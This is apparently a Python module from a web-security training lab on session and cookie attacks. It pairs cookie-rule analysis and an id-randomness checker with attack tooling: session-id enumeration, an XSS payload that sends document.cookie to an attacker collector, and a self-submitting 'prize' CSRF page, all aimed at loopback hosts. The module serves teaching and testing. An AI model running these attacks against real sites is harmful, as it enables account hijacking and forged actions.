"""Attacks on sessions and their cookies (lab 03-sessions).

* reading ``Set-Cookie`` the way a browser does, and sending a chosen session id;
* enumerating sequential ids, and a small "sequencer" that estimates how many bits of an id
  are really random (the idea of Burp Sequencer, much simplified);
* an attacker's web site (a cookie collector and an auto-submitting cross-site form), the
  payload an injected script runs, and the victim's side driven in a real Chromium page;
* when no browser is installed, :func:`simulate_browser`: the cookie rules applied by hand,
  clearly a simulation.

The browser helpers take a Playwright ``Browser`` (see :func:`labkit.browser.run_in_browser`).
The victim's site and the attacker's must be different *sites*, not just different ports:
two ports on 127.0.0.1 are the same site, so :func:`other_site` moves the victim to
``localhost`` (which browsers, like 127.0.0.1, treat as a secure context over plain HTTP).
"""

from __future__ import annotations

import html
import itertools
import math
import re
import threading
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode, urlsplit, urlunsplit

import httpx
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, Response

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

__all__ = [
    "LAX_POST_WINDOW_S",
    "BrowserOutcome",
    "IdAnalysis",
    "SetCookie",
    "SimulatedBrowser",
    "analyse_ids",
    "attacker_site",
    "browser_csrf",
    "browser_login",
    "browser_xss",
    "cookie_header",
    "csrf_url",
    "enumerate_sessions",
    "loot_cookies",
    "other_site",
    "parse_set_cookie",
    "set_cookies",
    "simulate_browser",
    "steal_cookie_payload",
    "whoami",
]

#: Chromium's "Lax by default" still sends a cookie without ``SameSite`` on a cross-site
#: top-level POST during the first 2 minutes of its life ("Lax+POST"), so logins keep working
#: for sites that POST back from an identity provider. Verified here with Chromium 156.
LAX_POST_WINDOW_S = 120


# -- cookies on the wire ----------------------------------------------------------------
@dataclass(frozen=True)
class SetCookie:
    """One ``Set-Cookie`` header, parsed as RFC 6265bis §5.7 does (attribute names folded)."""

    name: str
    value: str
    attributes: Mapping[str, str] = field(default_factory=dict)
    raw: str = ""

    @property
    def http_only(self) -> bool:
        return "httponly" in self.attributes

    @property
    def secure(self) -> bool:
        return "secure" in self.attributes

    @property
    def same_site(self) -> str | None:
        """``"Strict"``, ``"Lax"``, ``"None"`` — or ``None`` when the attribute is missing."""
        value = self.attributes.get("samesite")
        return value.capitalize() if value is not None else None

    @property
    def path(self) -> str | None:
        return self.attributes.get("path")

    @property
    def domain(self) -> str | None:
        return self.attributes.get("domain")

    def __str__(self) -> str:
        return self.raw or f"{self.name}={self.value}"


def parse_set_cookie(header: str) -> SetCookie:
    """Parse one ``Set-Cookie`` value; the last occurrence of an attribute wins."""
    pair, *rest = header.split(";")
    name, _, value = pair.partition("=")
    attributes: dict[str, str] = {}
    for part in rest:
        key, _, attr_value = part.strip().partition("=")
        if key:
            attributes[key.strip().lower()] = attr_value.strip()
    return SetCookie(name.strip(), value.strip(), attributes, header.strip())


def set_cookies(response: httpx.Response) -> list[SetCookie]:
    """Every ``Set-Cookie`` of ``response``, parsed."""
    return [parse_set_cookie(h) for h in response.headers.get_list("set-cookie")]


def cookie_header(name: str, session_id: str) -> dict[str, str]:
    """Headers that present ``session_id`` as cookie ``name`` (whatever the jar would do).

    httpx's cookie jar, like a browser, never sends a ``Secure`` cookie over plain HTTP; an
    attacker's script does not care, so the checks and attacks set the header themselves.
    """
    return {"Cookie": f"{name}={session_id}"}


def whoami(client: httpx.Client, name: str, session_id: str) -> dict[str, Any] | None:
    """``GET /api/me`` as the holder of ``session_id``: the account, or ``None`` (401)."""
    response = client.get("/api/me", headers=cookie_header(name, session_id))
    return response.json() if response.status_code == 200 else None


def enumerate_sessions(
    client: httpx.Client, name: str, around: int, *, width: int = 25
) -> dict[str, dict[str, Any]]:
    """Try the ids ``around - width`` .. ``around + width``; return the live ones and whose."""
    found: dict[str, dict[str, Any]] = {}
    for number in range(max(0, around - width), around + width + 1):
        account = whoami(client, name, str(number))
        if account is not None:
            found[str(number)] = account
    return found


# -- how random is an id? ---------------------------------------------------------------
_ALPHABETS: tuple[tuple[str, str, int], ...] = (
    ("decimal", "0123456789", 10),
    ("hex", "0123456789abcdef", 16),
    ("HEX", "0123456789ABCDEF", 16),
    ("alphanumeric", "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", 62),
    (
        "base64url",
        "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-_",
        64,
    ),
    ("base64", "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz+/=", 64),
)
#: Consecutive numeric ids closer than this are a counter or a clock, not randomness.
_SEQUENTIAL_GAP = 2**32
_PAD = "\0"


@dataclass(frozen=True)
class IdAnalysis:
    """What a sample of session ids gives away.

    ``bits`` estimates the random bits of one id: each character position counts
    ``log2(alphabet)`` when it takes (about) as many different values as a uniform source
    would in this many samples, ``log2(distinct values)`` when fewer, nothing when constant.
    It can only *over*-estimate a generator (statistics cannot see a seeded PRNG), so it is a
    floor test: below 128 bits is certainly too weak (ASVS 5.0 7.2.3).
    """

    count: int
    unique: int
    lengths: tuple[int, ...]
    alphabet: str
    alphabet_size: int
    bits: float
    constant_positions: int
    sequential: bool
    median_gap: float | None = None

    @property
    def strong(self) -> bool:
        return self.unique == self.count and not self.sequential and self.bits >= 128

    def __str__(self) -> str:
        lengths = "-".join(map(str, sorted({min(self.lengths), max(self.lengths)})))
        lines = [
            f"{self.count} ids, {self.unique} distinct, length {lengths}, "
            f"alphabet {self.alphabet} ({self.alphabet_size} symbols)",
            f"~{self.bits:.0f} random bits per id; {self.constant_positions} constant positions",
        ]
        if self.sequential:
            lines.append(f"SEQUENTIAL: consecutive ids differ by ~{self.median_gap:,.0f}")
        return "\n".join(lines)


def _alphabet(chars: set[str]) -> tuple[str, int]:
    for name, symbols, size in _ALPHABETS:
        if chars <= set(symbols):
            return name, size
    return "other", max(len(chars), 1)


def _as_numbers(ids: Sequence[str]) -> list[int] | None:
    for base, pattern in ((10, r"[0-9]+"), (16, r"[0-9a-fA-F]+")):
        if all(re.fullmatch(pattern, i) for i in ids):
            return [int(i, base) for i in ids]
    return None


def analyse_ids(ids: Sequence[str]) -> IdAnalysis:
    """Estimate how predictable a sample of ids (in the order they were issued) is."""
    if len(ids) < 2:
        raise ValueError("analyse at least two ids (a hundred or more for a useful estimate)")
    count = len(ids)
    width = max(len(i) for i in ids)
    padded = [i.rjust(width, _PAD) for i in ids]
    columns = [{p[k] for p in padded} for k in range(width)]
    varying = set().union(*(c for c in columns if len(c) > 1)) - {_PAD}
    name, size = _alphabet(varying or set(ids[0]))
    expected = size * (1 - (1 - 1 / size) ** count)
    bits = 0.0
    for column in columns:
        distinct = len(column)
        if distinct <= 1:
            continue
        bits += math.log2(size) if distinct >= 0.7 * expected else math.log2(distinct)
    numbers = _as_numbers(ids)
    sequential, gap = False, None
    if numbers is not None:
        gaps = sorted(abs(b - a) for a, b in itertools.pairwise(numbers))
        gap = float(gaps[len(gaps) // 2])
        sequential = gap < _SEQUENTIAL_GAP
        if sequential:  # a counter or a clock: knowing one id gives away the next
            bits = min(bits, math.log2(max(gap, 1)) + 1)
    return IdAnalysis(
        count=count,
        unique=len(set(ids)),
        lengths=tuple(len(i) for i in ids),
        alphabet=name,
        alphabet_size=size,
        bits=bits,
        constant_positions=sum(1 for c in columns if len(c) <= 1),
        sequential=sequential,
        median_gap=gap,
    )


# -- the attacker's web site ------------------------------------------------------------
def other_site(url: str) -> str:
    """The same server under the other loopback name: 127.0.0.1 <-> localhost.

    Browsers treat both as secure contexts over plain HTTP (so ``Secure`` cookies work), and
    as two different *sites* — which is what SameSite is about.
    """
    parts = urlsplit(url)
    host = parts.hostname or ""
    swapped = {"127.0.0.1": "localhost", "localhost": "127.0.0.1"}.get(host)
    if swapped is None:
        raise ValueError(f"expected a loopback URL (127.0.0.1 or localhost), got {url!r}")
    netloc = swapped + (f":{parts.port}" if parts.port else "")
    return urlunsplit((parts.scheme, netloc, parts.path, parts.query, parts.fragment))


def steal_cookie_payload(collector_url: str) -> str:
    """An injected ``<script>`` that sends ``document.cookie`` to the attacker's collector."""
    target = collector_url.rstrip("/") + "/collect?c="
    return f"<script>new Image().src = {target!r} + encodeURIComponent(document.cookie);</script>"


def csrf_url(attacker_url: str, action: str, **fields: Any) -> str:
    """The attacker's page that auto-submits a form POST of ``fields`` to ``action``."""
    query = urlencode({"action": action, **{k: str(v) for k, v in fields.items()}})
    return f"{attacker_url.rstrip('/')}/csrf?{query}"


_CSRF_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>You won a prize!</title></head>
<body><h1>Claiming your prize…</h1>
<form id="f" method="post" action="{action}">{inputs}</form>
<script>document.getElementById("f").submit();</script>
</body></html>"""


def attacker_site() -> FastAPI:
    """The attacker's server: ``GET /collect?c=`` keeps what a script sent, ``GET /loot``
    lists it, ``GET /csrf?action=URL&field=value...`` is a page whose form posts itself.

    Run it in a :class:`labkit.sandbox.server.Sandbox` next to the lab (another site).
    """
    app = FastAPI(title="evil.example (the attacker's site)")
    loot: list[str] = []
    lock = threading.Lock()

    @app.get("/collect")
    def collect(c: str = "") -> Response:
        with lock:
            loot.append(c)
        return Response(status_code=204)

    @app.get("/loot")
    def show_loot() -> list[str]:
        with lock:
            return list(loot)

    @app.get("/csrf", response_class=HTMLResponse, response_model=None)
    def csrf(request: Request, action: str) -> Response:
        if urlsplit(action).scheme.lower() not in ("http", "https"):
            # a form posts to a web site; a javascript: action would be a script planted in
            # this page (behind a hub's proxy, on JupyterLab's own origin)
            return Response("action must be an http(s) URL", status_code=400)
        inputs = "".join(
            f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">'
            for k, v in request.query_params.items()
            if k != "action"
        )
        return HTMLResponse(_CSRF_PAGE.format(action=html.escape(action), inputs=inputs))

    return app


# -- the victim, in a real browser ------------------------------------------------------
@dataclass(frozen=True)
class BrowserOutcome:
    """What happened in the browser: what the page showed, and what the script could see."""

    signed_in: bool
    document_cookie: str = ""
    landing_status: int | None = None
    landing_text: str = ""
    notes: tuple[str, ...] = ()


def browser_login(page: Page, site_url: str, email: str, password: str) -> bool:
    """The victim signs in on the wallet's home page; True when the page, asking ``/api/me``
    with the cookie the browser kept, shows the victim's email."""
    page.set_default_timeout(10_000)
    response = page.goto(site_url.rstrip("/") + "/")
    if response is None or response.status != 200:
        return False
    page.fill("#email", email)
    page.fill("#password", password)
    page.click("#signin")
    # the page logs in, then asks /api/me with whatever cookie the browser kept
    page.wait_for_function("document.body.dataset.login === 'done'")
    who = page.query_selector("#who")
    return who is not None and who.text_content() == email


def browser_xss(
    browser: Browser, site_url: str, email: str, password: str, payload: str
) -> BrowserOutcome:
    """The victim signs in, then opens a page of the site carrying ``payload`` (an XSS).

    Returns what ``document.cookie`` showed on that page; whatever the payload sent to the
    attacker is in the attacker's ``/loot``.
    """
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    context = browser.new_context()
    notes: list[str] = []
    try:
        page = context.new_page()
        signed_in = browser_login(page, site_url, email, password)
        url = f"{site_url.rstrip('/')}/api/_lab/xss?{urlencode({'html': payload})}"
        try:
            with page.expect_request(lambda r: "/collect" in r.url, timeout=5_000):
                page.goto(url)
        except PlaywrightTimeout:
            notes.append("the page sent nothing to a /collect URL within 5 s")
        seen = page.evaluate("document.cookie")
        return BrowserOutcome(signed_in=signed_in, document_cookie=str(seen), notes=tuple(notes))
    finally:
        context.close()


def browser_csrf(
    browser: Browser, site_url: str, email: str, password: str, attack_page: str
) -> BrowserOutcome:
    """The victim signs in, then visits the attacker's page (another site) at once.

    The page's form posts to the wallet; the outcome holds where the browser landed.
    """
    context = browser.new_context()
    try:
        page = context.new_page()
        signed_in = browser_login(page, site_url, email, password)
        with page.expect_response(lambda r: r.request.method == "POST", timeout=10_000) as info:
            page.goto(attack_page)
        landing = info.value
        return BrowserOutcome(
            signed_in=signed_in, landing_status=landing.status, landing_text=landing.text()
        )
    finally:
        context.close()


# -- no browser? the rules, by hand -----------------------------------------------------
@dataclass(frozen=True)
class SimulatedBrowser:
    """SIMULATION — what a Chromium-like browser would do with one cookie, by the rules."""

    cookie: SetCookie
    stored: bool
    document_cookie: str
    sent_on_cross_site_post: bool
    reasons: tuple[str, ...]

    def __str__(self) -> str:
        head = "SIMULATION (no real browser ran): " + str(self.cookie)
        return "\n".join([head, *(f"  - {r}" for r in self.reasons)])


def simulate_browser(
    set_cookie: str, *, secure_context: bool = True, cookie_age_s: float = 0
) -> SimulatedBrowser:
    """Apply the cookie rules (RFC 6265bis, Chromium's Lax-by-default) to one ``Set-Cookie``.

    A labelled stand-in for :func:`browser_xss` / :func:`browser_csrf` when no browser is
    installed. ``secure_context``: the page is https, http://localhost or http://127.0.0.1.
    """
    cookie = parse_set_cookie(set_cookie)
    reasons: list[str] = []
    stored = True
    if cookie.secure and not secure_context:
        stored = False
        reasons.append("Secure cookie set from an insecure origin: dropped")
    if cookie.name.startswith("__Host-") and not (
        cookie.secure and cookie.path == "/" and cookie.domain is None
    ):
        stored = False
        reasons.append("__Host- cookie without Secure, Path=/ or with Domain: dropped")
    same_site = cookie.same_site
    if same_site == "None" and not cookie.secure:
        stored = False
        reasons.append("SameSite=None without Secure: dropped")
    readable = stored and not cookie.http_only
    document_cookie = f"{cookie.name}={cookie.value}" if readable else ""
    reasons.append(
        "script reads it through document.cookie"
        if readable
        else "document.cookie does not show it"
        + (" (HttpOnly)" if stored and cookie.http_only else "")
    )
    if not stored:
        sent = False
    elif same_site == "None":
        sent = True
    elif same_site in ("Strict", "Lax"):
        sent = False
    else:
        sent = cookie_age_s < LAX_POST_WINDOW_S
    reasons.append(
        ("sent" if sent else "not sent")
        + " with a cross-site form POST"
        + (
            f" (no SameSite: treated as Lax, but Chromium sends it for {LAX_POST_WINDOW_S} s)"
            if stored and same_site is None
            else f" (SameSite={same_site})"
            if same_site
            else ""
        )
    )
    return SimulatedBrowser(cookie, stored, document_cookie, sent, tuple(reasons))


def loot_cookies(loot: Iterable[str]) -> dict[str, str]:
    """Every ``name=value`` pair in the strings a collector received."""
    found: dict[str, str] = {}
    for entry in loot:
        for pair in entry.split(";"):
            name, sep, value = pair.strip().partition("=")
            if sep and name:
                found[name] = value
    return found
